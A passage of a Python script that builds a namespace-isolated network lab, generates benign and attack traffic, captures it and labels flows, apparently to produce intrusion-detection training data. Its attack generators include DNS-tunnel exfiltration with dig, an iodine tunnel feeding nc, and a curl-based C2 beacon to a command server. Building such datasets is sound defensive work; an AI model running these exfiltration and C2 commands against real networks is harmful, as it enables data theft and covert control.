            enc = r.choice(["b32", "hex", "b64"])
            if enc == "b32":
                text = base64.b32encode(data).decode().rstrip("=").lower()
            elif enc == "hex":
                text = data.hex()
            else:
                text = base64.urlsafe_b64encode(data).decode().rstrip("=").replace("_", "-")
            lab_len = r.randint(20, 63)
            n_labels = r.randint(1, 3)
            per_q = lab_len * n_labels
            sid = "%04x" % r.randrange(1 << 16)
            qtype = r.choice(["A", "TXT", "TXT", "AAAA", "CNAME", "MX"])
            lines = []
            for i in range(0, len(text), per_q):
                chunk = text[i:i + per_q]
                labels = [chunk[j:j + lab_len] for j in range(0, len(chunk), lab_len)]
                name = ".".join(labels + [f"{sid}{i // per_q:x}", self.exfil_domain])
                lines.append(f"@{self.ip['dns']} -t {qtype} +tries=1 +time=1 +short {name}")
            burst = r.choice([5, 20, 60, 200])
            gap = r.choice([0.0, 0.2, 1.0, 3.0])
            for i in range(0, len(lines), burst):
                if not self.live():
                    return
                batch = f"{self.run}/exfil-{s}-{i}.txt"
                with open(batch, "w") as f:
                    f.write("\n".join(lines[i:i + burst]) + "\n")
                self.act("exfil", "dig", f"dns-tunnel-{enc}", "exfil", ["dns"], ["dig", "-f", batch], 30)
                if not self.sleep(gap * r.uniform(0.5, 1.5)):
                    return
            self.sleep(r.uniform(3, 15))

    def iodine(self, r):
        """A real DNS tunnel (iodine) through the resolver, which forwards the domain to c2srv."""
        if not self.live():
            return
        direct = r.random() < 0.25
        server = self.ip["c2srv" if direct else "dns"]
        opts = ["-T", r.choice(["NULL", "PRIVATE", "TXT", "SRV", "MX", "CNAME", "A"]),
                "-O", r.choice(["Base32", "Base64", "Base128"]),
                "-I", str(r.choice([1, 2, 4])), "-M", str(r.choice([120, 180, 255]))]
        if r.random() < 0.3:
            opts.append("-L0")
        size = r.randint(30, 300) << 10
        hold = r.uniform(25, 45)
        script = (f"iodine -f -r -P {self.tunnel_pw} {' '.join(opts)} {server} {self.tunnel_domain} & IOD=$!; "
                  f"for i in $(seq 1 20); do ip addr show dns0 2>/dev/null | grep -q inet && break; sleep 0.5; done; "
                  f"head -c {size} /dev/urandom | timeout {hold:.0f} nc -n -q 1 {self.tunnel_ip} 4444; "
                  f"sleep {r.uniform(1, 5):.1f}; kill $IOD")
        t0 = time.time()
        # The resolver's forwarded queries to c2srv belong to the tunnel too.
        fwd = None if direct else self.action("exfil", "iodine", "iodine-forwarded", "dns", ["c2srv"], t0, None)
        self.act("exfil", "iodine", "iodine" + ("-direct" if direct else ""), "exfil",
                 ["c2srv" if direct else "dns"], ["sh", "-c", script], hold + 20, args=script)
        if fwd is not None:
            fwd["t1"] = round(time.time() + 2, 6)

    def implant(self):
        r = self.rng_t()
        interval = r.choice([1, 2, 3, 5])
        jitter = r.choice([0.0, 0.1, 0.3, 0.5])
        mode = r.choice(["http", "https", "mixed"])
        ua = r.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.31", "curl/7.88.1"])
        if not self.sleep(r.uniform(0, 10)):
            return
        while self.live():
            https = mode == "https" or (mode == "mixed" and r.random() < 0.5)
            port = self.port["c2https" if https else "c2http"]
            path = r.choice(self.c2paths) + f"?id={r.randrange(1 << 32):08x}"
            cmd = ["curl", "-s", "-k", "--max-time", "10", "-A", ua, "-o", "/dev/null"]
            if r.random() < 0.3:   # send results back
                cmd += ["--data-binary", "@-", "-H", "Content-Type: application/octet-stream"]
                data = base64.b64encode(os.urandom(r.randint(32, 4000)))
            else:
                data = None
            host = self.hostname["c2srv"] if r.random() < self.p_names else self.ip["c2srv"]
            cmd.append(f"{'https' if https else 'http'}://{host}:{port}{path}")
            self.act("c2", "curl", f"beacon-{'https' if https else 'http'}", "implant", ["c2srv"], cmd, 12, stdin_data=data)
            if not self.sleep(interval * (1 + r.uniform(-jitter, jitter))):
                return

    # ---------------------------------------------------------------- run
    def go(self):
        os.makedirs(self.out, exist_ok=True)
        if os.path.exists(self.run):
            shutil.rmtree(self.run)
        self.plan()
        log(f"seed {self.seed}: subnet {self.ip['web1'].rsplit('.', 1)[0]}.0/24, ports {self.port}")
        self.content()
        self.build()
        self.services()
        pcap = self.stem + ".pcap"
        cap = self.popen("sw", ["tcpdump", "-i", "br0", "-n", "-s", "0", "-B", "32768", "-w", pcap],
                         stderr=open(self.stem + ".tcpdump.log", "w"))
        time.sleep(1.5)
        t_start = time.time()
        self.t_end = t_start + self.duration
        threads = []
        benign_kinds = {"browse": 5, "mirror": 1, "dns": 3, "ssh": 2, "scp": 1, "bulk": 0.4, "ftp": 1, "idle": 0.6}
        for c in self.clients:
            for k in range(2):   # two things at once per client (tabs, a download, a shell)
                threads.append(threading.Thread(target=self.benign_loop, name=f"{c}-{k}", args=(c, benign_kinds)))
        # The C2 implant also browses and resolves names like any client.
        threads.append(threading.Thread(target=self.benign_loop, name="implant-browse",
                                        args=("implant", {"browse": 5, "dns": 3, "bulk": 0.1})))
        for fn in (self.scanner, self.dos, self.brute, self.exfil, self.implant):
            threads.append(threading.Thread(target=fn, name=fn.__name__))
        for t in threads:
            t.start()
        for t in threads:
            t.join(timeout=max(1, self.t_end - time.time() + 70))
        self.stop.set()
        time.sleep(2)
        self.kill(cap, signal.SIGINT)
        t_stop = time.time()
        log(f"capture done ({t_stop - t_start:.0f} s); {len(self.actions)} actions")
        with open(self.stem + ".actions.jsonl", "w") as f:
            for a in list(self.actions):
                if a["t1"] is None:
                    a = dict(a, t1=round(t_stop, 6), rc="running at capture end")
                f.write(json.dumps(a, sort_keys=True) + "\n")
        meta = {"seed": self.seed, "roles": self.ip, "ports": self.port, "zone": self.zone,
                "exfil_domain": self.exfil_domain, "tunnel_domain": self.tunnel_domain,
                "filtered_servers": self.filtered, "duration_s": round(t_stop - t_start, 1),
                "client_errors": dict(self.errors)}
        return pcap, meta

    def cleanup(self):
        self.stop.set()
        for p in list(self.procs):
            if p.poll() is None:
                self.kill(p)
        for n in self.namespaces:
            pids = subprocess.run(["ip", "netns", "pids", n], capture_output=True, text=True).stdout.split()
            for pid in pids:
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except (ProcessLookupError, ValueError):
                    pass
            sh("ip", "netns", "del", n, check=False)
            if n.startswith(self.prefix) and os.path.isdir(f"/etc/netns/{n}"):
                shutil.rmtree(f"/etc/netns/{n}", ignore_errors=True)
        if os.path.isdir(self.run):
            shutil.rmtree(self.run, ignore_errors=True)


# --------------------------------------------------------------------------- labelling

def read_pcap(path):
    """Yield (ts, proto, src, sport, dst, dport, tcp_flags, icmp_type, icmp_code, echo_id) for IPv4."""
    with open(path, "rb") as f:
        gh = f.read(24)
        magic = struct.unpack("<I", gh[:4])[0]
        if magic in (0xA1B2C3D4, 0xA1B23C4D):
            end = "<"
        elif magic in (0xD4C3B2A1, 0x4D3CB2A1):
            end = ">"
        else:
            raise ValueError(f"{path}: not a pcap file")
        nano = magic in (0xA1B23C4D, 0x4D3CB2A1)
        linktype = struct.unpack(end + "I", gh[20:24])[0]
        if linktype != 1:
            raise ValueError(f"{path}: link type {linktype}, expected Ethernet")
        rec = struct.Struct(end + "IIII")
        while True:
            h = f.read(16)
            if len(h) < 16:
                return
            sec, frac, incl, _orig = rec.unpack(h)
            data = f.read(incl)
            ts = sec + frac / (1e9 if nano else 1e6)
            if len(data) < 34:
                continue
            et = (data[12] << 8) | data[13]
            off = 14
            while et == 0x8100 and len(data) >= off + 4:
                et = (data[off + 2] << 8) | data[off + 3]
                off += 4
            if et != 0x0800:
                continue
            ihl = (data[off] & 0x0F) * 4
            proto = data[off + 9]
            src = socket.inet_ntoa(data[off + 12:off + 16])
            dst = socket.inet_ntoa(data[off + 16:off + 20])
            frag = ((data[off + 6] & 0x1F) << 8) | data[off + 7]
            t = off + ihl
            if frag:
                continue
            if proto in (6, 17) and len(data) >= t + 4:
                sport, dport = struct.unpack("!HH", data[t:t + 4])
                flags = data[t + 13] if proto == 6 and len(data) > t + 13 else 0
                yield ts, proto, src, sport, dst, dport, flags, 0, 0, None
            elif proto == 1 and len(data) >= t + 8:
                typ, code = data[t], data[t + 1]
                eid = struct.unpack("!H", data[t + 4:t + 6])[0] if typ in (0, 8, 13, 14) else None
                yield ts, proto, src, typ, dst, code, 0, typ, code, eid


PROTO_NAME = {6: "tcp", 17: "udp", 1: "icmp"}
SPLIT_GAP_S = 30.0


def flows_of(pcap):
    """Group packets into flows the way the engine keys them. Returns a list of dicts."""
    open_flows = {}
    done = []
    for ts, proto, src, sp, dst, dp, flags, typ, code, eid in read_pcap(pcap):
        if proto == 1:
            port = eid if eid is not None else (typ << 8) | code
            a, b = (src, port), (dst, port)
        else:
            a, b = (src, sp), (dst, dp)
        key = (proto,) + ((a, b) if a <= b else (b, a))
        f = open_flows.get(key)
        pure_syn = proto == 6 and (flags & 0x12) == 0x02
        if f is not None and (ts - f["last"] > SPLIT_GAP_S or (pure_syn and f["closed"])):
            done.append(f)
            f = None
        if f is None:
            f = {"proto": proto, "first": ts, "last": ts, "src": src, "dst": dst,
                 "sport": sp, "dport": dp, "packets": 0, "closed": False}
            open_flows[key] = f
        f["last"] = ts
        f["packets"] += 1
        if proto == 6 and flags & 0x05:
            f["closed"] = True
    done.extend(open_flows.values())
    done.sort(key=lambda f: f["first"])
    return done


SLACK_S = 1.0


def label_flows(flows, actions):
    by_host = collections.defaultdict(list)
    for a in actions:
        by_host[a["src"]].append(a)
    for v in by_host.values():
        v.sort(key=lambda a: a["t0"])
    stats = collections.Counter()
    for f in flows:
        cands = []
        for me, peer in ((f["src"], f["dst"]), (f["dst"], f["src"])):
            for a in by_host.get(me, ()):
                if a["t0"] - SLACK_S <= f["first"] <= a["t1"] + SLACK_S and peer in a["targets"]:
                    cands.append(a)
        labels = {a["label"] for a in cands}
        if len(labels) == 1:
            # The closest action in time names the tool.
            a = min(cands, key=lambda a: 0 if a["t0"] <= f["first"] <= a["t1"] else
                    min(abs(f["first"] - a["t0"]), abs(f["first"] - a["t1"])))
            f["label"], f["tool"], f["variant"], f["action"] = a["label"], a["tool"], a["variant"], a["id"]
            stats[a["label"]] += 1
        else:
            f["label"] = ""
            f["tool"] = f["variant"] = ""
            f["action"] = -1
            stats["unlabelled-ambiguous" if labels else "unlabelled-no-action"] += 1
    return stats


def write_labels(stem, flows):
    with open(stem + ".labels.csv", "w", newline="") as fl, open(stem + ".flows.csv", "w", newline="") as ff:
        wl, wf = csv.writer(fl), csv.writer(ff)
        head = ["first_ts", "last_ts", "proto", "src_ip", "src_port", "dst_ip", "dst_port", "label"]
        wl.writerow(head)
        wf.writerow(head + ["tool", "variant", "action", "packets"])
        for f in flows:
            row = [f"{f['first']:.6f}", f"{f['last']:.6f}", PROTO_NAME[f["proto"]], f["src"], f["sport"],
                   f["dst"], f["dport"], f["label"]]
            if f["label"]:
                wl.writerow(row)
            wf.writerow(row + [f["tool"], f["variant"], f["action"], f["packets"]])


def label_cmd(pcap, actions_path, stem, meta=None):
    actions = [json.loads(x) for x in open(actions_path)]
    flows = flows_of(pcap)
    stats = label_flows(flows, actions)
    write_labels(stem, flows)
    per_variant = collections.Counter((f["label"], f["variant"]) for f in flows if f["label"])
    summary = dict(meta or {})
    summary.update({
        "pcap": os.path.basename(pcap), "pcap_bytes": os.path.getsize(pcap),
        "flows": len(flows), "flows_by_label": dict(stats),
        "packets": sum(f["packets"] for f in flows),
        "flows_by_variant": {f"{l}/{v}": n for (l, v), n in sorted(per_variant.items())},
        "actions": len(actions),
    })
    with open(stem + ".summary.json", "w") as f:
        json.dump(summary, f, indent=2, sort_keys=True)
        f.write("\n")
    log(f"labelled {len(flows)} flows: {dict(stats)}")
    return summary


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    sub = ap.add_subparsers(dest="cmd", required=True)
    r = sub.add_parser("run", help="build the lab, run it, capture and label (root)")
    r.add_argument("--seed", type=int, required=True)
    r.add_argument("--out", default="build/lab")
    r.add_argument("--duration", type=float, default=170.0, help="seconds of activity (default 170)")
    r.add_argument("--prefix", default=None, help="namespace name prefix (default tw<seed>x<pid>-)")
    l_ = sub.add_parser("label", help="(re)label a capture from its action log")
    l_.add_argument("--pcap", required=True)
    l_.add_argument("--actions", required=True)
    l_.add_argument("--out-stem", required=True)
    args = ap.parse_args()
    if args.cmd == "label":
        label_cmd(args.pcap, args.actions, args.out_stem)
        return 0
    if os.geteuid() != 0:
        print("lab.py run: needs root (network namespaces, tcpdump)", file=sys.stderr)
        return 2
    prefix = args.prefix or f"tw{args.seed}x{os.getpid() % 10000}-"
    lab = Lab(args.seed, args.out, args.duration, prefix)
    for s in (signal.SIGTERM, signal.SIGHUP):
        signal.signal(s, lambda *_: (_ for _ in ()).throw(KeyboardInterrupt()))
    try:
        pcap, meta = lab.go()
    finally:
        lab.cleanup()
    label_cmd(pcap, lab.stem + ".actions.jsonl", lab.stem, meta)
    return 0


if __name__ == "__main__":
    sys.exit(main())
